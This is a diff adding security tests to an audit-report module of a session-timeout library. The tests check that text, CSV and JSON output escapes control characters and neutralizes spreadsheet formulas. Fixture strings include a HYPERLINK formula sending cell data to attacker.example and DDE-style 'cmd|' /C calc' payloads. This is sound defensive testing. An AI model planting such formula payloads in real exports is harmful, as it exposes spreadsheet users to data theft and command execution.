@@ -6,6 +6,7 @@ import csv
 import io
 import json
 import random
+import re
 import subprocess
 import sys
 from collections import Counter
@@ -13,10 +14,14 @@ from datetime import datetime, timezone
 from pathlib import Path
 
 import pytest
+from hypothesis import assume, given, settings
+from hypothesis import strategies as st
 
 from idleguard import Policy
 from idleguard.audit import AuditTrail, JsonLinesSink
 from idleguard.audit.cli import main
+from idleguard.audit.redaction import printable
+from idleguard.audit.report import CSV_COLUMNS, build_report, render
 from idleguard.audit.sql import SqlSink
 from idleguard.events import Event, EventType
 from idleguard.testing import EventCollector, SettableClock
@@ -208,3 +213,130 @@ def test_python_m_idleguard_audit_runs(tmp_path: Path) -> None:
         "idle",
         "1",
     )
+
+
+# -- hostile text in the log: a report must not forge lines, drive a terminal or run formulas --
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
+UNSAFE = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
+HOSTILE_TEXT = (
+    st.lists(
+        st.one_of(
+            st.text(max_size=6),
+            st.sampled_from(
+                ["=", "+", "-", "@", "\t", "\r", "\n", " ", "\x1b[31m", "\u202e", "\x85"]
+            ),
+        ),
+        min_size=1,
+        max_size=6,
+    )
+    .map("".join)
+    .filter(bool)
+)
+
+
+def events_carrying(text: str) -> list[Event]:
+    """Events whose every field the report shows is ``text``."""
+    return [
+        Event(EventType.SESSION_ENDED, Q3_START + 1, tenant=text, subject=text, reason=text),
+        Event(EventType.SESSION_EXPIRED_INACTIVITY, Q3_START + 2, tenant="other", reason="idle"),
+        Event(
+            EventType.INACTIVITY_TIMEOUT_UPDATED,
+            Q3_START + 3,
+            tenant=text,
+            subject=text,
+            metadata={"scope": text, "actor": text, "old": text, "new": {"idle_timeout": text}},
+        ),
+        Event(
+            EventType.INACTIVITY_TIMEOUT_UPDATED,
+            Q3_START + 4,
+            tenant=text,
+            metadata={"scope": "tenant", "actor": text, "new": text},
+        ),
+        # The type says numbers; a tampered log says what it likes, and the reader keeps it.
+        Event.from_dict(
+            {
+                "type": "session_started",
+                "at": Q3_START + 5,
+                "tenant": text,
+                "policy": {"idle_timeout": text, "absolute_timeout": text},
+            }
+        ),
+    ]
+
+
+def rendered(text: str, form: str) -> str:
+    out = io.StringIO(newline="")
+    render(build_report(events_carrying(text)), form, out)
+    return out.getvalue()
+
+
+@settings(max_examples=200, deadline=None)
+@given(text=HOSTILE_TEXT)
+def test_text_report_shows_control_characters_as_escapes(text: str) -> None:
+    assume(text != "other")
+    report = rendered(text, "text")
+    lines = report.split("\n")
+    assert lines.pop() == ""
+    assert len(lines) == len(rendered("x", "text").split("\n")) - 1
+    for line in lines:
+        assert UNSAFE.search(line) is None, line
+    assert printable(text) in report
+
+
+@settings(max_examples=200, deadline=None)
+@given(text=HOSTILE_TEXT)
+def test_no_csv_cell_starts_a_formula_or_a_row(text: str) -> None:
+    rows = list(csv.reader(io.StringIO(rendered(text, "csv"), newline="")))
+    assert tuple(rows[0]) == CSV_COLUMNS
+    assert len(rows) == len(list(csv.reader(io.StringIO(rendered("x", "csv"), newline=""))))
+    for row in rows[1:]:
+        assert len(row) == len(CSV_COLUMNS), row
+        for cell in row:
+            assert not cell.startswith(FORMULA_STARTS), row
+            assert not cell.lstrip().startswith(FORMULA_STARTS), row
+    change = next(
+        dict(zip(CSV_COLUMNS, row, strict=True)) for row in rows if row[0] == "timeout_change"
+    )
+    for column in ("tenant", "subject", "scope", "actor", "old", "new"):
+        assert change[column] in (text, "'" + text), column
+
+
+def test_the_command_line_neutralizes_what_it_prints(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    log = tmp_path / "events.jsonl"
+    forged = "acme\n  idle            9999\x1b[2J"
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
+    log.write_text(
+        Event(EventType.SESSION_ENDED, Q3_START, tenant=forged, reason="signed_out").to_json()
+        + "\n"
+        + Event(EventType.SESSION_ENDED, Q3_START, tenant="globex", reason="idle").to_json()
+        + "\n"
+        + Event(
+            EventType.INACTIVITY_TIMEOUT_UPDATED,
+            Q3_START + 1,
+            tenant=formula,
+            subject="@SUM(1+1)*cmd|' /C calc'!A0",
+            metadata={"scope": "user", "actor": "-2+3+cmd|' /C calc'!A0", "new": "+1"},
+        ).to_json()
+        + "\n"
+    )
+    assert main(["audit", str(log)]) == 0
+    text = capsys.readouterr().out
+    assert "\x1b" not in text
+    assert "acme\\n  idle            9999\\x1b[2J" in text
+    assert not any(line.lstrip().startswith("idle            9999") for line in text.splitlines())
+
+    out = tmp_path / "report.csv"
+    assert main(["audit", str(log), "--format", "csv", "-o", str(out)]) == 0
+    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
+    (change,) = (row for row in rows if row["section"] == "timeout_change")
+    assert change["tenant"] == "'" + formula
+    assert change["subject"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert change["actor"] == "'-2+3+cmd|' /C calc'!A0"
+    assert change["new"] == "'+1"
+
+    assert main(["audit", str(log), "--format", "json"]) == 0
+    report = capsys.readouterr().out
+    assert UNSAFE.search(report.replace("\n", "")) is None
+    assert json.loads(report)["timeout_changes"][0]["tenant"] == formula
